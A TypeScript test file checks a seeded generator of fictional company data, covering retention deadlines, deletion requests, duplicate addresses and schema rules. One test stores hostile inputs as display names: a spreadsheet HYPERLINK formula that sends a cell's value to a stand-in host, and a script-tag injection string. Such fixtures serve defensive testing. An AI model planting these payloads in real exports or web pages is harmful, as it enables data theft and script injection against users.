import { readFileSync } from 'node:fs'
import type { Client } from 'pg'
import { beforeAll, describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { column, loadSample } from './load-company.ts'

const NOW = '2026-11-20T10:00:00Z'
const TABLES =
  'accounts connector_grants conversations crash_reports devices feedback invoices marketing_preferences memory_entries newsletter_subscribers organisations security_events subscriptions support_messages support_tickets telemetry_events'.split(
    ' ',
  )
let company: Client

beforeAll(async () => {
  company = (await loadSample({ now: NOW, accounts: 200 })).client
})

async function checksums(client: Client): Promise<Record<string, unknown>> {
  const sums: Record<string, unknown> = {}
  for (const table of TABLES) {
    ;[sums[table]] = await column(client, `select md5(string_agg(t::text, E'\\n' order by t::text)) from ${table} t`)
  }
  return sums
}

/** Addresses whose rows are due: the start plus the period, counted in Amsterdam, has come. */
function due(table: string, starts: string, period: string, email = 'email', join = ''): Promise<unknown[]> {
  return column(
    company,
    `select distinct ${email} from ${table} ${join}
     where ((${starts}) at time zone 'Europe/Amsterdam' + $1::interval) at time zone 'Europe/Amsterdam' <= $2 order by 1`,
    [period, NOW],
  )
}

describe('The generator', () => {
  test('The same settings give the same rows; another seed gives another crowd and the same named people.', async () => {
    const first = await checksums(company)
    expect(await checksums((await loadSample({ now: NOW, accounts: 200 })).client)).toEqual(first)
    const other = (await loadSample({ now: NOW, accounts: 200, seed: 'another' })).client
    const changed = Object.entries(await checksums(other)).filter(([table, sum]) => first[table] !== sum)
    expect(changed.map(([table]) => table)).toEqual(TABLES.filter((table) => table !== 'organisations'))
    const named = `select md5(string_agg(t::text, '' order by id)) from accounts t where id < 100`
    expect(await column(other, named)).toEqual(await column(company, named))
    const invoices = `select md5(string_agg(to_jsonb(t)::text, '' order by number)) from (select number, billing_email, issued_at, net_amount from invoices where account_id < 100) t`
    expect(await column(other, invoices)).toEqual(await column(company, invoices))
  })

  test('Another now moves every age with it, and no row is from the future.', async () => {
    const later = (await loadSample({ now: '2027-03-31T22:30:00Z', accounts: 60 })).client
    const ages = `select extract(epoch from now - deletion_requested_at)::int / 86400 from accounts, (select $1::timestamptz as now) n where id in (14, 15, 16) order by id`
    expect(await column(later, ages, ['2027-03-31T22:30:00Z'])).toEqual([88, 89, 90])
    expect(await column(later, `select count(*)::int from telemetry_events where occurred_at > $1`, ['2027-03-31T22:30:00Z'])).toEqual([0])
    expect(await column(company, `select count(*)::int from conversations where last_activity_at > $1`, [NOW])).toEqual([0])
  })

  test('Without settings there are 2,000 accounts and 200,000 events of the crowd.', async () => {
    const full = (await loadSample()).client
    expect(await column(full, 'select count(*)::int from accounts')).toEqual([2000])
    expect(await column(full, 'select count(*)::int from telemetry_events where account_id > 100')).toEqual([200_000])
    expect(await column(full, 'select count(*) = count(distinct id) from telemetry_events')).toEqual([true])
  })

  test('The application can go on: sequences stand after the last row.', async () => {
    const [id] = await column(
      company,
      `insert into accounts (email, display_name, plan, country, locale, password_hash, created_at) values ('new@example.com', 'New', 'free', 'NL', 'nl', '', $1) returning id`,
      [NOW],
    )
    expect(await column(company, 'select max(id) from accounts where id <> $1', [id])).not.toEqual([id])
    await company.query('delete from accounts where id = $1', [id])
  })
})

describe('The schema looks like a real one', () => {
  test('Foreign keys do four different things, telemetry has a partition a month and one for the rest.', async () => {
    const rules = await column(company, `select distinct confdeltype::text from pg_constraint where contype = 'f' order by 1`)
    expect(rules).toEqual(['a', 'c', 'n', 'r'])
    expect(await column(company, `select count(*)::int from pg_inherits where inhparent = 'telemetry_events'::regclass`)).toEqual([28])
    expect(await column(company, 'select occurred_at::text from telemetry_events_default')).toEqual(['2016-01-01 00:00:00+00'])
  })

  test('An organisation on Team cannot keep nothing; one on Enterprise can.', async () => {
    await expect(company.query('update organisations set conversation_retention_days = 0 where id = 1')).rejects.toMatchObject({
      code: '23514',
    })
    expect(await column(company, 'select conversation_retention_days from organisations where id = 2')).toEqual([0])
  })
})

describe('The awkward people are there', () => {
  test('Everybody in people.yaml has a row under exactly that address, and nobody has unknown@example.com.', async () => {
    const listed: { email: string }[] = parse(readFileSync('examples/cowork/people.yaml', 'utf8'))
    const known = new Set(
      await column(
        company,
        'select email from accounts where id < 100 union select email from newsletter_subscribers union select requester_email from support_tickets',
      ),
    )
    expect(listed.map((person) => person.email).filter((email) => !known.has(email))).toEqual(['unknown@example.com'])
    const named = await column(company, 'select distinct email from accounts where id < 100')
    expect(named.filter((email) => !listed.some((person) => person.email === email))).toEqual([])
  })

  test('Two Okafors differ in case only; two Jansens share one address; nobody else does.', async () => {
    const shared = `select array_agg(email order by id) from accounts group by lower(email) having count(*) > 1 order by min(id)`
    expect(await column(company, shared)).toEqual([
      ['Sam.Okafor@example.com', 'sam.okafor@example.com'],
      ['familie.jansen@example.com', 'familie.jansen@example.com'],
    ])
  })

  test('Deletion was asked for 89, 90 and 91 days ago; closing counts as well, and the earlier of both.', async () => {
    const goes = await due('accounts', 'least(deletion_requested_at, closed_at)', '90 days', 'email', '')
    const named = goes.filter((email) => typeof email === 'string' && !/\.\d+@/.test(email))
    expect(named).toEqual(['closed.then.asked@example.com', 'closed91@example.com', 'day90@example.com', 'day91@example.com'])
    expect(await due('newsletter_subscribers', 'withdrawn_at', '30 days')).toEqual(
      expect.arrayContaining(['marit@example.com', 'withdrawn30@example.com', 'withdrawn31@example.com']),
    )
    expect(await due('newsletter_subscribers', 'withdrawn_at', '30 days')).not.toContain('withdrawn29@example.com')
  })

  test('Willem has invoices on both sides of the end of the seventh financial year, and Amsterdam decides which.', async () => {
    const year = `date_trunc('year', issued_at, 'Europe/Amsterdam') + interval '1 year'`
    const goes = await due(`(select number, ${year} as ends from invoices where account_id = 19) i`, 'ends', '7 years', 'number')
    expect(goes).toEqual(['CW-000019-LAST', 'CW-000019-OLD'])
    const [kept] = await column(
      company,
      `select array_agg(number order by issued_at) from invoices where account_id = 19 and not number = any($1)`,
      [goes],
    )
    expect(kept).toEqual(['CW-000019-FIRST', 'CW-000019-UTC', 'CW-000019-NEW'])
  })

  test.each<[string, string, string, string, number, number]>([
    ['telemetry of Tess at 12 months', 'telemetry_events where account_id = 37', 'occurred_at', '12 months', 4, 2],
    ['telemetry of Tess at 24 months', 'telemetry_events where account_id = 37', 'occurred_at', '24 months', 2, 4],
    ['crash reports of Cas', `crash_reports where device_id = md5('device:38:1')::uuid`, 'received_at', '6 months', 1, 1],
    ['threads of Stef', 'support_tickets where account_id = 39', 'last_interaction_at', '3 years', 1, 1],
    ['feedback of Stef', 'feedback where account_id = 39', 'last_interaction_at', '3 years', 1, 1],
    ['conversations of Coen', 'conversations where account_id = 40', 'last_activity_at', '5 years', 1, 1],
    ['conversations of Daan', 'conversations where account_id = 41', 'last_activity_at', '30 days', 1, 1],
    ['conversations of Lotte at work', 'conversations where account_id = 20', 'last_activity_at', '30 days', 1, 1],
    ['conversations of Fatma', 'conversations where account_id = 23', 'last_activity_at', '365 days', 1, 1],
    ['sign-ins of Vera', 'security_events where account_id = 42', 'occurred_at', '12 months', 1, 2],
  ])('%s stand on both sides of the limit', async (_, rows, starts, period, goes, stays) => {
    const ripe = `((${starts}) at time zone 'Europe/Amsterdam' + $1::interval) at time zone 'Europe/Amsterdam' <= $2`
    const counts = await column(
      company,
      `select array[count(*) filter (where ${ripe}), count(*) filter (where not ${ripe})]::int[] from ${rows}`,
      [period, NOW],
    )
    expect(counts).toEqual([[goes, stays]])
  })

  test('Only one grant of Gina is revoked and confirmed; Pieter wrote in the thread of Greet; Milan used the device of Eva.', async () => {
    expect(await column(company, 'select vendor from connector_grants where account_id = 47 and vendor_revoked_at is not null')).toEqual([
      'slack',
    ])
    expect(
      await column(company, 'select vendor from connector_grants where account_id = 47 and revoked_at is not null order by 1'),
    ).toEqual(['notion', 'slack'])
    const thread = `select distinct sender_email from support_messages where ticket_id = (select id from support_tickets where requester_email = 'greet@example.com') order by 1`
    expect(await column(company, thread)).toEqual(['greet@example.com', 'pieter@example.com', 'support@example.org'])
    const device = `select distinct t.account_id from telemetry_events t join devices d on d.id = t.device_id where d.account_id = 44 order by 1`
    expect(await column(company, device)).toEqual(['44', '45'])
  })

  test('Names in other scripts and cells that a spreadsheet would run are stored as they were typed.', async () => {
    const names = await column(company, 'select display_name from accounts where id in (26, 27, 28, 29, 31, 32) order by id')
    expect(names).toEqual([
      '李小龍',
      'Олена Шевченко',
      'يوسف حداد',
      'Zoe\u0308 A\u030angstro\u0308m 🌷',
      '=HYPERLINK("https://evil.test/?x="&A1,"Click")',
      `<script>alert(1)</script> "Mallory", O'Hara`,
    ])
    const cells = await column(company, 'select left(message, 1) from feedback where account_id = 31 order by id')
    expect(cells).toEqual(['=', '@', '-', '\t'])
  })

  test('Finn is ten, Rik is restricted already, Olga owes money, and Ada has nothing open.', async () => {
    expect(await column(company, 'select 2026 - birth_year from accounts where id = 25')).toEqual([10])
    expect(await column(company, 'select id::int from accounts where processing_restricted')).toEqual([35])
    expect(await column(company, `select account_id::int from invoices where status = 'open'`)).toEqual([36])
    expect(await column(company, `select status from subscriptions where account_id in (1, 36) order by account_id`)).toEqual([
      'cancelled',
      'past_due',
    ])
  })

  test('Every conversation and every memory falls under exactly one rule, or its organisation has set no period.', async () => {
    for (const table of ['conversations', 'memory_entries']) {
      const rules = `select count(*)::int from ${table} c left join accounts a on a.id = c.account_id left join organisations o on o.id = c.organisation_id
        where (c.organisation_id is null and a.training_opt_out = false)::int + (c.organisation_id is null and a.training_opt_out)::int
          + coalesce((o.plan = 'team')::int, 0) + coalesce((o.plan = 'enterprise')::int, 0) <> 1`
      expect(await column(company, rules)).toEqual([0])
    }
  })
})
